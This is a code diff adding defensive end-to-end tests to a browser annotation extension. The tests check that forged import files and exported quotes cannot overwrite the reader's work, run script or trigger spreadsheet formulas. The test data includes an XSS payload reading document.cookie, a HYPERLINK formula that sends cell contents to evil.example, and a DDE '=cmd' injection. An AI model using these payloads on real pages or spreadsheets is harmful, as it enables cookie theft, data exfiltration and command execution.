@@ -1,3 +1,4 @@
+import Papa from "papaparse";
 import type { Page } from "playwright-core";
 import { describe, expect, it } from "vitest";
 import { BACKGROUND_LIMITS } from "../../lib/guard/limits";
@@ -7,6 +8,7 @@ import {
   ARTICLE_HTML,
   cardIn,
   clickSelectionBar,
+  download,
   highlightPoint,
   openCardOf,
   pageNotice,
@@ -478,6 +480,95 @@ describe("a hostile page", () => {
     // The browser vouches for the tab's origin only; the path is the page's to name, as it could navigate there.
     const recorded = (await storedPages(harness.browser.worker)).find((p) => p.key === forgedPage);
     expect(recorded?.title).toBe("Title\ufffd with \ufffd a lone half");
+    await page.close();
+  });
+
+  it("cannot overwrite the reader's work through a shared import file dated in the future", async () => {
+    const url = `${harness.server.origin}/hostile-import.html`;
+    const { page } = await visit(url);
+    await giveReaderWork(harness.browser.worker, url, MILITANTS, { status: "disputed", note: SECRET.note });
+    const popup = await harness.browser.openPopup(page);
+    await popup.getByTestId("transfer-toggle").click();
+    const exported = await download(popup, "export-w3c");
+    await popup.close();
+    // A colleague's "export": the public article's ids, a verdict, a note and an address of the attacker's, dated 2099.
+    const collection = JSON.parse(exported.text);
+    for (const item of collection.first.items) {
+      if (!item.target.selector.some((s: { exact?: string }) => s.exact === MILITANTS)) continue;
+      item.modified = "2099-01-01T00:00:00.000Z";
+      item.target.source = "https://attacker.example/planted";
+      item.body = [
+        { type: "TextualBody", purpose: "assessing", value: "supported" },
+        { type: "TextualBody", purpose: "commenting", value: "Planted note", format: "text/plain" },
+      ];
+    }
+    const library = await harness.browser.context.newPage();
+    await library.goto(`chrome-extension://${harness.browser.extensionId}/options.html`);
+    await library.getByTestId("transfer-toggle").click();
+    await library.getByTestId("import-file").setInputFiles({
+      name: "shared.jsonld",
+      mimeType: "application/ld+json",
+      buffer: Buffer.from(JSON.stringify(collection)),
+    });
+    const conflicts = library.getByTestId("import-conflict");
+    await expect.poll(() => conflicts.count()).toBe(2);
+    const listed = (await conflicts.allTextContents()).join("\n");
+    expect(listed).toContain("disputed");
+    expect(listed).toContain("supported");
+    expect(listed).toContain(SECRET.note);
+    expect(listed).toContain("Planted note");
+    const stored = async () => (await annotationsOf(url)).find((a) => a.exact === MILITANTS);
+    expect([(await stored())?.status, (await stored())?.note]).toEqual(["disputed", SECRET.note]);
+    expect((await storedPages(harness.browser.worker)).find((p) => p.key === url)?.url).toBe(url);
+
+    // The reader may take the file's verdict, and only what they take changes.
+    await conflicts.filter({ hasText: "supported" }).getByTestId("take-imported").click();
+    await expect.poll(async () => (await stored())?.status).toBe("supported");
+    expect((await stored())?.note).toBe(SECRET.note);
+    await library.close();
+    await page.close();
+  });
+
+  it("cannot make an export run script or break when pasted, nor a spreadsheet run its text", async () => {
+    const url = `${harness.server.origin}/hostile-export.html`;
+    const hostileQuotes = [
+      // Text, as the page shows it: the entities are the page's way of writing "</script><script>…".
+      "<p>“&lt;/script&gt;&lt;script&gt;alert(document.cookie)&lt;/script&gt; is what we found,” said Omar Lind of the council.</p>",
+      '<p>“=HYPERLINK("http://evil.example/?"&A1,"Open") is the answer,” said Jane Okafor, the minister.</p>',
+      "<p>“\u00a0=cmd|' /C calc'!A0 was typed,” said Piotr Lewandowski, the clerk.</p>",
+      "<p id=lone>Placeholder</p>",
+    ].join("");
+    const html = ARTICLE_HTML.replace("<p>It is worth noting", `${hostileQuotes}<p>It is worth noting`).replace(
+      "</body>",
+      // A lone surrogate only a script can write into the page.
+      `<script>document.getElementById("lone").textContent = "\u201cThe figure \\ud800 was wrong,\u201d said Li Wei, the auditor.";</script></body>`,
+    );
+    const { page } = await visit(url, html);
+    const quotes = (await annotationsOf(url)).filter((a) => a.kind === "quote");
+    const scripted = quotes.find((a) => a.exact.includes("</script>"));
+    expect(scripted).toBeDefined();
+    expect(quotes.map((a) => a.exact)).toEqual(
+      expect.arrayContaining([expect.stringMatching(/^=HYPERLINK/u), expect.stringMatching(/^\u00a0?=cmd/u)]),
+    );
+    // The page's lone surrogate reached nothing stored: it reads as U+FFFD.
+    expect(quotes.some((a) => a.exact.includes("The figure \ufffd was wrong"))).toBe(true);
+    for (const quote of quotes)
+      await giveReaderWork(harness.browser.worker, url, quote.exact, { status: "false", note: "</script><b>x</b>" });
+    const popup = await harness.browser.openPopup(page);
+    await popup.getByTestId("transfer-toggle").click();
+    for (const testId of ["export-w3c", "export-claimreview"]) {
+      const { text } = await download(popup, testId);
+      expect(text.toLowerCase()).not.toContain("</script");
+      expect(text).not.toMatch(/[<>\u2028\u2029]/u);
+      expect(JSON.stringify(JSON.parse(text))).toContain("</script>");
+    }
+    const { text: csv } = await download(popup, "export-csv");
+    const cells = (Papa.parse(csv.replace(/^\uFEFF/u, ""), { header: false }).data as string[][]).flat();
+    for (const cell of cells) {
+      const start = cell.replace(/^[\s\u00a0\u3000"'\u201c\u201d\u2018\u2019]+/u, "");
+      expect(/^[=+\-@\uff1d\uff0b\uff0d\uff20]/u.test(start) && !cell.startsWith("'"), cell).toBe(false);
+    }
+    await popup.close();
     await page.close();
   });
 });
